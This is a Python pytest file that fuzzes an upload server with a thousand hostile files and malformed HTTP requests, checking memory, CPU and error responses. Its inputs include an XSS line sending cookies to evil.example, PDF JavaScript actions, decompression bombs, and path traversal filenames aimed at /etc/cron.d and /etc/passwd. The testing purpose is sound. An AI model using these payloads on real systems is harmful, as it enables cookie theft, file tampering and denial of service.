"""A thousand uploads made to break something: each is answered clearly, and the server stays small.

The server is a process of its own, as in an installation, so that its memory can be told from the test's.
"""

from __future__ import annotations

import asyncio
import io
import random
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Generator, Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import msgspec
import psutil
import pytest
from PIL import Image

from api.client_address import parse_networks
from api.processes import children_of
from api.settings import Settings
from tests.support.client import Api
from tests.support.database import Database
from tests.support.factories import World
from tests.support.files import box, digest_of, film, located, noisy_photo, paper, picture
from tests.support.visits import rows

MEBIBYTE = 1024 * 1024
MOST_MEMORY = 300 * MEBIBYTE
MOST_SECONDS = 60
"""Of one processor: what else the machine does meanwhile is not the server's fault."""
UPLOADS = 1000
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def _now() -> datetime:
    """The server's own time: its clock is the system's."""
    return datetime.now(UTC)


class Server(msgspec.Struct, frozen=True):
    """A server process and where it listens."""

    process: psutil.Process
    port: int

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def busy(self) -> float:
        """Seconds of a processor that it has used."""
        used = self.process.cpu_times()
        return used.user + used.system

    def memory(self) -> int:
        """Resident bytes of it and its children."""
        family = [self.process, *self.process.children(recursive=True)]
        return sum(each.memory_info().rss for each in family)


@pytest.fixture(scope="module")
def server(running_api: Api, database: Database, tmp_path_factory: pytest.TempPathFactory) -> Generator[Server]:
    """A server over this file's database and keys, behind a proxy of ours."""
    settings: Settings = msgspec.structs.replace(
        running_api.app.state.settings,
        var=tmp_path_factory.mktemp("server"),
        database_url=database.dsn,
        trusted_proxies=parse_networks("127.0.0.0/8"),
    )
    with socket.create_server(("127.0.0.1", 0)) as listening:
        made_of = children_of(settings, listening.fileno())[0]
        environment = {"PYTHONPATH": str(Path(__file__).parents[2]), **made_of.environment}
        running = subprocess.Popen(made_of.argv, env=environment, pass_fds=made_of.pass_fds)
        try:
            made = Server(psutil.Process(running.pid), listening.getsockname()[1])
            # The socket listens already: the request waits until the server takes it.
            httpx.get(f"{made.url}/health/live", timeout=60).raise_for_status()
            yield made
        finally:
            running.terminate()
            running.wait(20)


@contextmanager
def watched(server: Server) -> Generator[list[int]]:
    """The most memory that the server takes meanwhile."""
    peak, over = [server.memory()], threading.Event()

    def watch() -> None:
        while not over.wait(0.02):
            peak[0] = max(peak[0], server.memory())

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        yield peak
    finally:
        over.set()
        watcher.join()


# What is made to break something


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_that_says(width: int, height: int, rows_there: int = 1, bits: int = 8, colour: int = 6) -> bytes:
    """A PNG that declares more than it holds."""
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    row = bytes(1 + min(width, 70_000) * 4)
    body = zlib.compress(row * rows_there, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A PNG whose compressed texts unfold to hundreds of megabytes."""
    whole = picture("PNG", exif=b"")
    text = zlib.compress(bytes(8 * MEBIBYTE), 9)
    bombs = b"".join(chunk(b"zTXt", b"k%d\x00\x00" % number + text) for number in range(40))
    return whole[:33] + bombs + whole[33:]


def flat(kind: str, side: int, mode: str = "RGB", **options: object) -> bytes:
    """One colour, which compresses to next to nothing."""
    written = io.BytesIO()
    Image.new(mode, (side, side), 0 if mode == "L" else (9,) * len(mode)).save(written, kind, **options)  # type: ignore[arg-type]
    return written.getvalue()


def exif_that_lies() -> bytes:
    """EXIF whose offsets lead out of the file and back to themselves."""
    tiff = (
        b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + b"\xff\xff" + b"\x0f\x01\x02\x00\xff\xff\xff\x7f\x08\x00\x00\x00" * 99
    )
    return picture(exif=b"")[:2] + b"\xff\xe1" + struct.pack(">H", len(tiff) + 2) + tiff + picture(exif=b"")[2:]


def damaged(content: bytes, seed: int) -> bytes:
    """Some bytes of it are others."""
    chance, changed = random.Random(seed), bytearray(content)
    for _ in range(chance.randint(1, 60)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)


def small_ones() -> list[bytes]:
    """One of every accepted type."""
    return [picture(), picture("PNG"), picture("WEBP"), picture("HEIF"), paper(), film(), noisy_photo(40_000)]


def bombs() -> list[bytes]:
    """Small files that hold large pictures: refused, or decoded one at a time."""
    return [
        png_that_says(30_000, 30_000),
        png_that_says(2**31 - 1, 2**31 - 1),
        png_that_says(70_000, 700, 700),
        png_that_says(6_200, 6_200, 1, 16),
        text_bomb(),
        flat("PNG", 5300, "RGBA"),
        flat("PNG", 6900, "RGBA"),
        flat("PNG", 12_000, "L"),
        flat("WEBP", 2650, lossless=True),
        flat("WEBP", 9000, quality=1),
        flat("HEIF", 4900, quality=1),
        flat("HEIF", 7000, quality=1),
        flat("JPEG", 7000, quality=1),
        flat("JPEG", 4300, quality=1, progressive=True, subsampling=0),
        flat("JPEG", 7000, quality=1, progressive=True, subsampling=0),
        box(b"ftyp", b"heic" + bytes(4) + b"heicmif1") + box(b"meta", bytes(60)),
        struct.pack(">I", 1) + b"ftypisom" + b"\xff" * 8 + bytes(99),
    ]


def hostile() -> Iterator[bytes]:
    """Contents without end, hardly two of them alike."""
    bases, heavy = small_ones(), bombs()
    chance = random.Random(4)
    fixed: Sequence[bytes] = [
        b"",
        b"\x00",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<!doctype html>" + SCRIPT,
        b"GIF89a" + SCRIPT,
        b"MZ" + bytes(500),
        b"PK\x03\x04" + bytes(500),
        b"%PDF-1.7\n/OpenAction << /S /JavaScript /JS (x) >>\n%%EOF",
        b"%PDF-1.7\n/Open#41ction << /S /#4aavaScript >>\n%%EOF",
        picture()[:20],
        picture() + SCRIPT,
        picture(exif=located() + SCRIPT),
        b"%PDF-1.4\n" + picture() + b"\n%%EOF",
        SCRIPT + picture(),
        exif_that_lies(),
        film(b"avif"),
        film(payload=SCRIPT),
    ]
    makers: Sequence[Callable[[int], bytes]] = [
        lambda number: bases[number % len(bases)][: chance.randrange(1, 400)],
        lambda number: bases[number % len(bases)][: -chance.randrange(1, 200)],
        lambda number: damaged(bases[number % len(bases)], number),
        lambda number: fixed[number % len(fixed)] + (b"%d" % number if number % 3 else b""),
        lambda number: bases[number % len(bases)] + chance.randbytes(number % 2000),
        lambda number: chance.randbytes(number % 5000),
    ]
    number = 0
    while True:
        number += 1
        yield heavy[number // 25 % len(heavy)] if number % 25 == 0 else makers[number % len(makers)](number)


# How they come


class Sender:
    """Sends one content after the other, each by another way."""

    def __init__(self, api: Api, world: World, http: httpx.AsyncClient) -> None:
        self._http = http
        self._enterprise = api.as_(world.enterprise_user).bearer()
        self._inspector = api.as_(world.inspector).bearer()
        self._inspection = str(world.inspection)
        self._code = world.code
        self._citizens = [api.parts.passes.write(api.parts.passes.make(api.clock())) for _ in range(40)]

    def _citizen(self, number: int) -> dict[str, str]:
        return {
            "Yima-Pass": self._citizens[number % len(self._citizens)],
            "X-Forwarded-For": f"203.0.113.{number % 40}",
        }

    def _form(self, number: int, content: bytes) -> dict[str, Any]:
        """The page's form, well or badly made."""
        says = ("b0undary", "another", "", "x" * 80)[number // 20 % 4]
        heads = ('name="pass"', 'name="key"', 'name="photos"; filename="../../../etc/cron.d/x.php"')
        values = (self._citizens[0].encode(), f"form-{number:08d}".encode(), content)
        body = b"".join(
            f"--b0undary\r\nContent-Disposition: form-data; {head}\r\n\r\n".encode() + value + b"\r\n"
            for head, value in zip(heads, values, strict=True)
        )
        end = b"--b0undary--\r\n" if number % 3 else b"--b0und"
        return {"content": body + end, "headers": {"Content-Type": f"multipart/form-data; boundary={says}"}}

    async def send(self, number: int, content: bytes) -> httpx.Response:
        """By a citizen, an enterprise or an inspector; now and then with what is false about it."""
        name = digest_of(content)
        match number % 20:
            case 3:
                name = digest_of(b"another" + content)
            case 7:
                name = ("..%2f..%2fetc%2fpasswd", "%00", "x" * 64, "g" * 64, "A" * 300)[number // 20 % 5]
            case _:
                pass
        headers = {"Content-Type": ("image/jpeg", "text/html", "multipart/form-data", ";;/")[number % 4]}
        if number % 11 == 0:
            headers["Content-Encoding"] = "gzip"
        if number % 20 == 11:
            return await self._http.post(f"/c/{self._code}/tip-off", **self._form(number, content))
        if number % 3 == 0:
            return await self._http.put(
                f"/api/v1/evidence/{name}",
                params={"inspection_id": self._inspection},
                content=content,
                headers=headers | self._inspector,
            )
        who = self._enterprise if number % 3 == 1 else self._citizen(number)
        return await self._http.put(f"/api/v1/attachments/{name}", content=content, headers=headers | who)


def kind_of(answer: httpx.Response) -> str:
    """What the client is told: a page for a form, else a problem wherever the file was not taken."""
    if answer.headers["content-type"].startswith("text/html"):
        return "page"
    if answer.status_code < 400:
        return "taken"
    assert answer.headers["content-type"] == "application/problem+json"
    return answer.json()["type"].rpartition(":")[2]


async def say(server: Server, text: str, more: bytes = b"") -> bytes:
    """What the server answers to bytes that no client library would send."""
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    writer.write(text.replace("\n", "\r\n").encode("latin-1") + more)
    try:
        await writer.drain()
        return await asyncio.wait_for(reader.read(65536), 10)
    finally:
        writer.close()


async def test_a_thousand_hostile_uploads_are_answered_and_cost_little(
    api: Api, world: World, server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    api.clock.now = _now()
    began, busy, answers = time.monotonic(), server.busy(), Counter[str]()
    contents = hostile()
    limit = asyncio.Semaphore(12)
    async with httpx.AsyncClient(base_url=server.url, timeout=60) as http:
        sender = Sender(api, world, http)

        async def send(number: int, content: bytes) -> None:
            async with limit:
                answer = await sender.send(number, content)
            answers[f"{answer.status_code} {kind_of(answer)}"] += 1

        with watched(server) as peak:
            for start in range(0, UPLOADS, 100):
                batch = [next(contents) for _ in range(100)]
                await asyncio.gather(*[send(start + at, content) for at, content in enumerate(batch)])
        good = picture(seed=99)
        assert (await sender.send(1, good)).status_code == 201
    took = time.monotonic() - began
    with capsys.disabled():
        sys.stdout.write(
            f"\n{UPLOADS} uploads in {took:.1f} s, peak {peak[0] // MEBIBYTE} MB: {dict(sorted(answers.items()))}\n"
        )
    assert answers.total() == UPLOADS
    assert not [each for each in answers if each.startswith("5")]
    assert answers["422 evidence-unreadable"] > 200
    assert answers["415 evidence-type-refused"] > 100
    assert answers["422 digest-mismatch"] > 20
    assert peak[0] < MOST_MEMORY
    assert server.busy() - busy < MOST_SECONDS
    stored = {row["digest"].hex() for row in await rows(api, "evidence_file")}
    kept = {row["digest"].hex() for table in ("evidence", "attachment_upload") for row in await rows(api, table)}
    assert stored == kept
    assert digest_of(good) in stored


async def test_what_no_client_would_send_is_answered_too(api: Api, world: World, server: Server) -> None:
    api.clock.now = _now()
    bearer = api.as_(world.enterprise_user).bearer()["Authorization"]
    place = f"PUT /api/v1/attachments/{'0' * 64} HTTP/1.1\nHost: yima\nAuthorization: {bearer}\n"

    for huge in ("99999999999", str(20 * MEBIBYTE + 1), "9" * 400):
        told = await say(server, f"{place}Content-Length: {huge}\n\n", b"x" * 1000)
        assert told.split(b" ")[1] in {b"400", b"413"}, told[:200]
    for length in ("-1", "abc", "1, 2"):
        told = await say(server, f"{place}Content-Length: {length}\n\n", b"x")
        assert told.split(b" ")[1] == b"400", told[:200]
    endless = b"".join(b"10000\r\n" + bytes(0x10000) + b"\r\n" for _ in range(330)) + b"0\r\n\r\n"
    with watched(server) as peak:
        told = await say(server, f"{place}Transfer-Encoding: chunked\n\n", endless)
    assert told.split(b" ")[1] == b"413", told[:200]
    assert peak[0] < MOST_MEMORY
    cut = await asyncio.open_connection("127.0.0.1", server.port)
    cut[1].write(f"{place}Content-Length: 9000\n\n".replace("\n", "\r\n").encode() + b"x" * 4000)
    await cut[1].drain()
    cut[1].close()
    async with httpx.AsyncClient(base_url=server.url) as http:
        assert (await http.get("/health/live")).is_success
    assert await rows(api, "attachment_upload") == []
